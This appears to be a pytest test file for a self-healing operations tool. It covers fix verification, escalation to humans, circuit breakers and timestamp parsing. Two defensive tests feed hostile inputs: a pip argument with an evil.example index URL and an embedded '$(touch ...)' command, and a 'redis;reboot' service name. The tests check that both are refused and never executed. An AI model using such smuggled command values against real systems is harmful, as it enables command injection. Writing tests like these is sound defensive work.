"""Verdicts that are true: a fix is judged by evidence, and a human is told when one is needed.

The real engine, real SQLite, real subprocesses and files; only the clock
is injected. Every assertion reads what a user reads: ``healer explain``,
``healer history``, the notices' text, the file on disk.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from support.rig import Rig

from healer.core.enums import SourceName
from healer.core.notices import NoticeKind
from healer.core.records import Event
from healer.core.stamps import iso_time, leading_time
from healer.remedy.base import ActionContext
from healer.remedy.builtin.git_sync import GitSyncAction
from healer.sources.journal_entries import entry_to_event
from healer.sources.webhooks import alertmanager


def pat(pid: str = "boom", **over: Any) -> dict[str, Any]:
    p: dict[str, Any] = {
        "id": pid,
        "severity": "medium",
        "regex": "BOOM (?P<what>[a-z]+)",
        "remediation": [{"action": "command", "params": {"command": "ok"}}],
        "threshold": 1,
        "cooldown": 0,
        "max_attempts": 5,
        "approval": "auto",
        "examples": ["BOOM x"],
    }
    p.update(over)
    return p


# -- recurrence by evidence -------------------------------------------------------


def test_a_backlog_of_pre_fix_lines_read_late_does_not_undo_the_fix(tmp_path: Path) -> None:
    rig = Rig(tmp_path, [pat()])
    before = [f"{rig.stamp(-30 + i)} ERROR BOOM a" for i in range(5)]
    [attempt] = rig.feed(before[0])
    assert attempt is not None and attempt.outcome.value == "verifying"
    rig.clock.advance(40)  # the tailer catches up long after the fix (and its grace): these lines are old
    rig.feed(*before[1:])
    rig.clock.advance(61)
    rig.engine.finalize_due()
    text = rig.explain()
    assert "Incident #1 [medium] fixed" in text
    assert "#1 command: succeeded — quiet through the verify window" in text
    assert "Fix attempts: 1 total, 1 succeeded" in rig.history()


def test_lines_without_a_time_count_only_after_the_grace(tmp_path: Path) -> None:
    rig = Rig(tmp_path, [pat()])
    rig.feed("BOOM a")
    rig.clock.advance(4)  # in flight when the fix finished: within engine.verify_grace (5s)
    rig.feed("BOOM a", "BOOM a")
    assert "#1 command: verifying" in rig.explain()
    rig.clock.advance(3)  # 7s after the fix: a new line is a recurrence
    rig.feed("BOOM a")
    text = rig.explain()
    assert (
        "#1 command: failed — incident recurred after the fix: a matching event 7s after it finished "
        "(by its arrival (no timestamp in the line))" in text
    )


def test_a_timestamped_line_is_judged_by_its_own_time(tmp_path: Path) -> None:
    rig = Rig(tmp_path, [pat()], engine={"verify_grace": "2s"})
    rig.feed(f"{rig.stamp()} ERROR BOOM a")
    rig.clock.advance(1)
    # Read 1s after the fix but written 10s later than that, per its own stamp (a clock the log trusts).
    rig.feed(f"{rig.stamp(10)} ERROR BOOM a")
    assert "a matching event 11s after it finished (by its own timestamp)" in rig.explain()


def test_an_actions_own_grace_beats_the_engine_default(tmp_path: Path) -> None:
    commands = {"commands": {"ok": ["true"]}, "verify_grace": "20s"}
    rig = Rig(tmp_path, [pat()], actions={"command": commands})
    rig.feed("BOOM a")
    rig.clock.advance(15)
    rig.feed("BOOM a")
    assert "#1 command: verifying" in rig.explain()
    rig.clock.advance(10)
    rig.feed("BOOM a")
    assert "#1 command: failed — incident recurred after the fix: a matching event 25s" in rig.explain()


def test_a_journal_backlog_is_judged_by_its_realtime_stamp(tmp_path: Path) -> None:
    rig = Rig(tmp_path, [pat()])
    rig.feed("BOOM a")
    rig.clock.advance(120)  # journald was read late: entries from before the fix come in now
    old = Event(SourceName.JOURNALD, "app", "BOOM a", rig.clock.now(), source_id="c1", happened=rig.clock.now() - 130)
    rig.engine.ingest_events([old])
    rig.clock.advance(1)
    assert "#1 command: verifying" in rig.explain() or "succeeded" in rig.explain()
    assert "recurred" not in rig.explain()


def test_a_model_fallback_is_not_rolled_back_by_the_in_flight_429s_of_its_burst(tmp_path: Path) -> None:
    env = tmp_path / "app.env"
    env.write_text("LLM_MODEL=gpt-big\n")
    rate = pat(
        "llm-429",
        regex=r"status 429 from the model API",
        remediation=[{"action": "set_config", "params": {"file": "app", "key": "LLM_MODEL", "value": "gpt-small"}}],
        examples=["status 429 from the model API"],
    )
    files = {"files": {"app": {"path": str(env), "keys": {"LLM_MODEL": ["gpt-small"]}}}}
    rig = Rig(tmp_path, [rate], actions={"set_config": files})
    burst = [f"{rig.stamp(-1 + i / 10)} WARNING status 429 from the model API" for i in range(12)]
    rig.feed(burst[0])
    assert env.read_text() == "LLM_MODEL=gpt-small\n"
    for i, line in enumerate(burst[1:]):  # the rest of the burst: requests sent with the old model
        rig.clock.advance(3 if i % 3 == 0 else 0)
        rig.feed(line, "status 429 from the model API")  # one with a stamp, one without (within 30s)
    rig.clock.advance(61)
    rig.engine.finalize_due()
    assert env.read_text() == "LLM_MODEL=gpt-small\n"
    assert "#1 set_config: succeeded — quiet through the verify window" in rig.explain()


# -- escalation ------------------------------------------------------------------


def test_a_fix_that_does_not_hold_twice_in_a_row_escalates_as_flapping(tmp_path: Path) -> None:
    rig = Rig(tmp_path, [pat()])
    for _ in range(2):
        rig.feed("BOOM a")  # a fix (the first, or the retry after the undo)
        rig.clock.advance(8)
        rig.feed("BOOM a")  # back after the grace: it did not hold
        rig.clock.advance(1)
    [text] = rig.said(NoticeKind.ESCALATION)
    assert text.startswith("boom: escalated to a human (flapping): the fix held only briefly 2 times in a row")
    assert [n.severity.value for n in rig.notices if n.kind is NoticeKind.ESCALATION] == ["high"]
    explained = rig.explain()
    assert "Incident #1 [medium] escalated" in explained
    assert "escalate (flapping)" in explained
    rig.clock.advance(10)
    assert rig.feed("BOOM a") == []  # not retried; and not said twice
    assert len(rig.said(NoticeKind.ESCALATION)) == 1


def test_the_breaker_opening_is_one_escalation_naming_the_fixes_that_tripped_it(tmp_path: Path) -> None:
    def failing() -> list[dict[str, Any]]:  # one list per pattern: the file refuses YAML aliases
        return [{"action": "command", "params": {"command": "fail"}}]

    patterns = [pat("p1", regex="ONE", remediation=failing(), examples=["ONE"]),
                pat("p2", regex="TWO", remediation=failing(), examples=["TWO"])]  # fmt: skip
    rig = Rig(tmp_path, patterns, engine={"breaker_failures": 2})
    rig.feed("ONE")
    rig.feed("TWO")
    [text] = rig.said(NoticeKind.ESCALATION)
    assert text.startswith("circuit breaker open for 1800s after 2 failed fixes in 3600s; every fix is notify-only")
    assert "Tripped by: fix #2 of p2 (incident #2): command false exited 1" in text
    assert "fix #1 of p1 (incident #1): command false exited 1" in text
    assert "escalate (circuit_open)" in rig.explain(2)
    rig.feed("ONE", "TWO")
    assert len(rig.said(NoticeKind.ESCALATION)) == 1


def test_a_fault_back_after_its_escalation_was_resolved_escalates_instead_of_retrying(tmp_path: Path) -> None:
    failing = [{"action": "command", "params": {"command": "fail"}}]
    rig = Rig(tmp_path, [pat(regex="RedisDown", remediation=failing, max_attempts=1, examples=["RedisDown"])])

    def alert(resolved: bool = False, starts: str = "2026-12-02T06:00:00Z") -> None:
        ev = Event(
            SourceName.ALERTMANAGER, "redis", "RedisDown", rig.clock.now(), source_id=f"fp:{starts}", resolved=resolved
        )
        rig.run(rig.engine.ingest_events([ev]).jobs)

    alert()
    assert "max_attempts" in rig.said(NoticeKind.ESCALATION)[0]
    rig.clock.advance(600)
    alert(resolved=True)  # a human fixed it by hand, or it went away
    rig.clock.advance(60)
    alert(starts="2026-12-02T06:11:00Z")
    second = rig.said(NoticeKind.ESCALATION)[1]
    # Issue 14 wording: the escalation, then where it is and what comes next.
    assert second == (
        "boom: escalated to a human (failed_before): the same fault was escalated 660s ago and is back;"
        f" not retried automatically for 86400s\nhost {os.uname().nodename}"
        " · service redis · pattern boom · incident #1"
        "\nnext: no more automatic fixes for this incident; look at it, then 'explain 1'"
    )
    assert "Fix attempts: 1 total" in rig.history()


def test_hostile_text_in_a_line_is_a_security_escalation_never_executed(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    missing = pat(
        "py-missing",
        regex=r"ModuleNotFoundError: No module named '(?P<module>[^']+)'",
        remediation=[{"action": "pip_install", "params": {"module": "{module}"}}],
        examples=["ModuleNotFoundError: No module named 'yaml'"],
    )
    pip = {"python": sys.executable, "allowed": ["PyYAML"], "packages": {"yaml": "PyYAML"}}
    rig = Rig(tmp_path, [missing], actions={"pip_install": pip})
    evil = f"--index-url=\x1b[2Jhttp://evil.example/$(touch {marker}){'x' * 500}"
    rig.feed(f"ModuleNotFoundError: No module named '{evil}'")
    [text] = rig.said(NoticeKind.ESCALATION)
    assert text.startswith("SECURITY: py-missing: pattern py-missing: parameter module refused the value ")
    assert "looks like a command-line option" in text and "Nothing was executed" in text
    assert "\x1b" not in text and "\\x1b" in text  # escaped, not passed to a terminal
    assert len(text) < 400  # the value is shortened
    assert [n.severity.value for n in rig.notices if n.kind is NoticeKind.ESCALATION] == ["critical"]
    assert not marker.exists()
    explained = rig.explain()
    assert "escalate (hostile_input)" in explained and "#1 pip_install: refused" in explained


def test_a_service_name_shaped_like_a_command_is_refused_as_hostile(tmp_path: Path) -> None:
    restart = pat(
        "svc-down",
        regex=r"service (?P<svc>\S+) is down",
        remediation=[{"action": "restart", "params": {"service": "{svc}"}}],
        examples=["service redis is down"],
    )
    units = {"manager": "command", "units": {"redis": {"argv": ["true"], "stay_up": 0}}}
    rig = Rig(tmp_path, [restart], actions={"restart": units})
    rig.feed("service redis;reboot is down")
    [text] = rig.said(NoticeKind.ESCALATION)
    assert "parameter service refused the value 'redis;reboot': is not a plain name" in text
    rig.feed("service postgres is down")  # merely not allowlisted: a quiet refusal, as before
    assert len(rig.said(NoticeKind.ESCALATION)) == 1
    assert "not in actions.restart.units" in rig.explain(2)


# -- positive probes -----------------------------------------------------------------


def test_a_restart_that_does_not_stay_up_fails_its_probe(tmp_path: Path) -> None:
    seen = tmp_path / "seen"
    # Healthy the first time it is asked, down the second: a unit in a crash loop.
    status = ["sh", "-c", f"test ! -e {seen} && touch {seen}"]
    restart = pat(
        "svc-down",
        regex=r"redis is down",
        remediation=[{"action": "restart", "params": {"service": "redis"}}],
        examples=["redis is down"],
    )
    unit = {"argv": ["true"], "status_argv": status, "stay_up": 0.05, "timeout": 0.1}
    rig = Rig(tmp_path, [restart], actions={"restart": {"manager": "command", "units": {"redis": unit}}})
    started = time.monotonic()
    rig.feed("redis is down")
    assert time.monotonic() - started >= 0.05
    assert "restart: failed restart: verify failed: redis came up but was down again within 0.05s" in rig.explain()


# -- reading an event's own time ---------------------------------------------------------


def test_leading_timestamps_are_read_cheaply_and_only_when_there() -> None:
    local = datetime(2026, 12, 2, 6, 21, 12, 123000).timestamp()
    assert leading_time("2026-12-02 06:21:12,123 ERROR x") == local
    assert leading_time("2026-12-02 06:21:12.123 ERROR x") == local
    assert leading_time("[2026-12-02T06:21:12.5Z] x") == 1796192472.5
    assert leading_time("2026-12-02T07:21:12+01:00 y") == 1796192472.0
    assert iso_time("2026-12-02T06:21:12.000000Z") == 1796192472.0
    for line in ("hello 2026-12-02 06:21:12", "2026-13-02 06:21:12 x", "2026-12-02 06:21:123", "", "9" * 10_000):
        assert leading_time(line) is None
    assert iso_time("") is None


def _git(cwd: Path, *args: str) -> str:
    """The developer's git: a fixed identity, and no system or user config (HOME is the test's)."""
    who = ["-c", "user.name=Dev", "-c", "user.email=dev@example.invalid"]
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1"}
    out = subprocess.run(["git", *who, *args], cwd=cwd, env=env, check=True, capture_output=True, text=True, timeout=30)
    return out.stdout.strip()


def test_a_synced_checkout_must_also_be_clean(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))  # the action's git reads no ~/.gitconfig of the host
    remote, dev, server = tmp_path / "remote.git", tmp_path / "dev", tmp_path / "server"
    _git(tmp_path, "init", "-q", "--bare", "--initial-branch=main", str(remote))
    _git(tmp_path, "clone", "-q", str(remote), str(dev))
    _git(dev, "checkout", "-q", "-b", "main")
    (dev / "app.py").write_text("VERSION = 1\n")
    _git(dev, "add", ".")
    _git(dev, "commit", "-q", "-m", "initial")
    _git(dev, "push", "-q", "-u", "origin", "main")
    _git(tmp_path, "clone", "-q", str(remote), str(server))
    (dev / "app.py").write_text("VERSION = 2\n")
    _git(dev, "commit", "-q", "-am", "upstream change")
    _git(dev, "push", "-q", "origin", "main")
    action = GitSyncAction()
    config = {"repos": {"app": {"path": str(server), "remote": "origin", "branch": "main"}}, "timeout": 30}
    ctx = ActionContext(
        incident_id=1,
        attempt_id=1,
        pattern_id="behind",
        params={"repo": "app"},
        settings=action.parse_settings(config, "actions.git_sync"),
        state_dir=tmp_path / "state",
    )
    action.check(ctx)
    state = action.apply(ctx)
    probe = action.verify(ctx, state)
    assert probe.ok and "matches origin/main" in probe.detail
    (server / "app.py").write_text("VERSION = 'edited by hand after the sync'\n")
    probe = action.verify(ctx, state)
    assert not probe.ok and probe.detail == "the tree is not clean: app.py"


def test_sources_carry_the_events_own_time() -> None:
    entry = {"MESSAGE": "BOOM a", "__REALTIME_TIMESTAMP": "1796192472500000", "__CURSOR": "c", "PRIORITY": "3"}
    ev = entry_to_event(entry, "app")
    assert ev is not None and ev.happened == 1796192472.5
    body = {
        "status": "firing",
        "alerts": [
            {"status": "firing", "labels": {"alertname": "RedisDown"}, "startsAt": "2026-12-02T06:21:12Z",
             "fingerprint": "f1"},
        ],
    }  # fmt: skip
    [alert] = alertmanager.parse(json.dumps(body).encode(), {}, now=1796199999.0)
    assert alert.happened == 1796192472.0 and alert.ts == 1796199999.0
